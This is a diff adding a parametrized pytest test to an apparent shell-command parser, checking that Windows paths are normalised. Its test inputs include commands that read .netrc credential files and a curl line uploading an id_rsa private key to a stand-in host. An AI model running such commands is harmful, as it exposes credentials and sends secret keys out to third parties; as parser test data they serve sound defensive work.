@@ -234,3 +234,19 @@ def test_words_nested_beyond_all_measure_are_given_up():
 )
 def test_redirections_do_what_they_do_to_files(line: str, effects: list[str]):
     assert effects_in(line) == effects
+
+
+@pytest.mark.parametrize(
+    ("line", "read"),
+    [
+        (r"type C:\Users\ana\.netrc", "type C:/Users/ana/.netrc"),
+        (
+            r"curl -F k=@D:\keys\id_rsa https://x.example",
+            "curl -F k=@D:/keys/id_rsa https://x.example",
+        ),
+        (r"more %USERPROFILE%\.netrc", "more %USERPROFILE%/.netrc"),
+        (r"cat a:b\c.txt", "cat a:bc.txt"),
+    ],
+)
+def test_a_path_of_windows_keeps_its_folders(line: str, read: str) -> None:
+    assert commands_in(line) == [read]
